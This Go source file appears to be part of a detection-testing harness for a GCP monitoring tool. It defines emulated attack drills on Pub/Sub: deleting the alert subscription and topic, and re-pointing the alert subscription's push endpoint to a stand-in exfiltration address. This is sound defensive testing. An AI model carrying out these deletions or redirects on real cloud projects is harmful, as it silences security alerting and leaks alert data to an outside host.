package attack

import (
	"context"
	"fmt"

	"cloud.google.com/go/pubsub/v2"
	"cloud.google.com/go/pubsub/v2/apiv1/pubsubpb"
	"google.golang.org/protobuf/types/known/fieldmaskpb"

	"github.com/cloudcoop/coopguard/shared/gcp"
	"github.com/cloudcoop/coopguard/test/emulator/eventarc"
)

// pubsubScenarios are the drills on coopguard's Pub/Sub topics and
// subscriptions (Elastic's "GCP Pub/Sub Subscription Deletion",
// "GCP Pub/Sub Topic Deletion"; Sigma's Pub/Sub subscription and topic
// changes), made by another principal: the operator is told. Each works
// on the alerts path (the CPU alert's topic and its trigger's
// subscription), so the entry still reaches coopguard through the log
// sink's own topic; a change to that one is the deaf path's job.
func pubsubScenarios() []Scenario {
	return []Scenario{
		{Name: "coopguard-subscription-deleted", Kind: Notify, Actor: actorOther, Counterpart: "operator-team-subscription",
			Summary: "deletes the subscription that carries coopguard's CPU alerts to HandleAlert: Subscriber.DeleteSubscription (allowed)",
			Act: func(ctx context.Context, w *World) error {
				c, err := w.pubsubAs(ctx, w.principal(actorOther))
				if err != nil {
					return err
				}
				sub := w.alertsSubscription()
				return allowed(c.SubscriptionAdminClient.DeleteSubscription(ctx, &pubsubpb.DeleteSubscriptionRequest{Subscription: sub}), "DeleteSubscription "+sub)
			}},
		{Name: "coopguard-subscription-redirected", Kind: Notify, Actor: actorOther, Counterpart: "operator-team-subscription",
			Summary: "makes the subscription of coopguard's CPU alerts push them to its own endpoint: Subscriber.UpdateSubscription push_config (allowed)",
			Act: func(ctx context.Context, w *World) error {
				c, err := w.pubsubAs(ctx, w.principal(actorOther))
				if err != nil {
					return err
				}
				sub := w.alertsSubscription()
				_, err = c.SubscriptionAdminClient.UpdateSubscription(ctx, &pubsubpb.UpdateSubscriptionRequest{
					Subscription: &pubsubpb.Subscription{Name: sub, PushConfig: &pubsubpb.PushConfig{PushEndpoint: "https://" + ExfilAddress + "/alerts"}},
					UpdateMask:   &fieldmaskpb.FieldMask{Paths: []string{"push_config"}}})
				return allowed(err, "UpdateSubscription push_config "+sub)
			}},
		{Name: "coopguard-topic-deleted", Kind: Notify, Actor: actorOther, Counterpart: "operator-team-subscription",
			Summary: "deletes the topic coopguard's CPU alerts are published to: Publisher.DeleteTopic (allowed)",
			Act: func(ctx context.Context, w *World) error {
				c, err := w.pubsubAs(ctx, w.principal(actorOther))
				if err != nil {
					return err
				}
				topic := "projects/" + w.Cfg.Cloud.GCP.Project + "/topics/" + w.Cfg.Coopguard.Topics.Alerts
				return allowed(c.TopicAdminClient.DeleteTopic(ctx, &pubsubpb.DeleteTopicRequest{Topic: topic}), "DeleteTopic "+topic)
			}},

		{Name: "operator-team-subscription", Kind: Benign, Actor: actorOperator, Counterpart: "coopguard-subscription-deleted",
			Summary: "creates, re-points and deletes a subscription of the team's own topic, then the topic: Create/Update/DeleteSubscription, Create/DeleteTopic",
			Act: func(ctx context.Context, w *World) error {
				c, err := w.pubsubAs(ctx, w.principal(actorOperator))
				if err != nil {
					return err
				}
				p := "projects/" + w.Cfg.Cloud.GCP.Project
				topic, sub := p+"/topics/team-builds", p+"/subscriptions/team-builds-ci"
				if _, err := c.TopicAdminClient.CreateTopic(ctx, &pubsubpb.Topic{Name: topic}); err != nil {
					return allowed(err, "CreateTopic "+topic)
				}
				if _, err := c.SubscriptionAdminClient.CreateSubscription(ctx, &pubsubpb.Subscription{Name: sub, Topic: topic}); err != nil {
					return allowed(err, "CreateSubscription "+sub)
				}
				if _, err := c.SubscriptionAdminClient.UpdateSubscription(ctx, &pubsubpb.UpdateSubscriptionRequest{
					Subscription: &pubsubpb.Subscription{Name: sub, PushConfig: &pubsubpb.PushConfig{PushEndpoint: "https://ci.example.com/hook"}},
					UpdateMask:   &fieldmaskpb.FieldMask{Paths: []string{"push_config"}}}); err != nil {
					return allowed(err, "UpdateSubscription "+sub)
				}
				if err := c.SubscriptionAdminClient.DeleteSubscription(ctx, &pubsubpb.DeleteSubscriptionRequest{Subscription: sub}); err != nil {
					return allowed(err, "DeleteSubscription "+sub)
				}
				return allowed(c.TopicAdminClient.DeleteTopic(ctx, &pubsubpb.DeleteTopicRequest{Topic: topic}), "DeleteTopic "+topic)
			}},
	}
}

// alertsSubscription is the subscription the emulated Eventarc made for
// HandleAlert's trigger on coopguard's alerts topic.
func (w *World) alertsSubscription() string {
	return "projects/" + w.Cfg.Cloud.GCP.Project + "/subscriptions/" + eventarc.SubscriptionID(w.Cfg.Coopguard.Topics.Alerts, "/HandleAlert")
}

// pubsubAs dials the official Pub/Sub client acting as principal against
// the emulated Pub/Sub's gated address, where its calls are audited.
func (w *World) pubsubAs(ctx context.Context, principal string) (*pubsub.Client, error) {
	c, err := pubsub.NewClient(ctx, w.Cfg.Cloud.GCP.Project, append(gcp.EmulatedGRPC(w.Emu.GRPCAddr), gcp.EmulatedIdentity(principal))...)
	if err != nil {
		return nil, fmt.Errorf("dial the emulated Pub/Sub: %w", err)
	}
	w.closers = append(w.closers, func() { c.Close() })
	return c, nil
}
